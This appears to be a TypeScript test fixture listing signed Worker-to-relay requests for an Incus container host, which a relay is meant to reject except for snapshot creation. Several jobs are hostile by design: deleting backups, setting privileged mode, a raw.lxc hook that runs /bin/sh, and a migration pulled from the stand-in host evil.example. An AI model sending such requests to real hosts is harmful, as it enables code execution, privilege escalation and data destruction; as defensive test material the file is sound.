/** Valid calls of the Worker to the relay, from which the hostile ones with a valid signature are made. */
import { request } from '../../shared/incus/routes.ts'
import type { BatchRequest, InventoryRequest } from '../../shared/relay/protocol.ts'

const web = { instance: 'web' }
const step = (remote: string, ...[name, ...rest]: Parameters<typeof request>) => ({
  ...{ remote, wait: 30 },
  ...request(name, ...rest),
})

/** All that it may do to Incus, however it is changed, is to take snapshots on the source. */
export const BATCH: BatchRequest = {
  jobs: [
    {
      ...{ id: 'main/default/web', lock: 'main/default/web' },
      steps: [
        step('main', 'createSnapshot', web, {}, { name: 'daily-20261120T0300Z', stateful: false }),
        step('main', 'listSnapshots', web, { recursion: '1' }),
      ],
    },
    { id: 'a', after: 'main/default/web', steps: [step('backup', 'deleteInstance', web)] },
    { id: 'b', steps: [step('backup', 'deleteSnapshot', { ...web, snapshot: 'mine' })] },
    {
      id: 'c',
      steps: [step('main', 'markInstance', web, {}, { config: { 'security.privileged': 'true' } })],
    },
    { id: 'd', steps: [step('main', 'restoreInstance', web, {}, { restore: 'mine', stateful: false })] },
    { id: 'e', detach: true, family: 'e', memo: { a: 1 }, steps: [step('main', 'getInstance', web)] },
    {
      id: 'f',
      steps: [
        step(
          'backup',
          'receiveInstance',
          {},
          {},
          {
            ...{ name: 'made', config: { 'raw.lxc': 'lxc.hook.pre-start=/bin/sh' }, devices: {} },
            source: { type: 'migration', mode: 'pull', operation: 'https://evil.example/1.0/operations/x' },
          },
        ),
      ],
    },
  ],
}

export const INVENTORY: InventoryRequest = {
  remotes: ['main', 'backup'],
  config: ['user.tier'],
  adopt: [{ id: 'x', remote: 'main', operation: 'op', lock: 'l', family: 'f', memo: {} }],
}
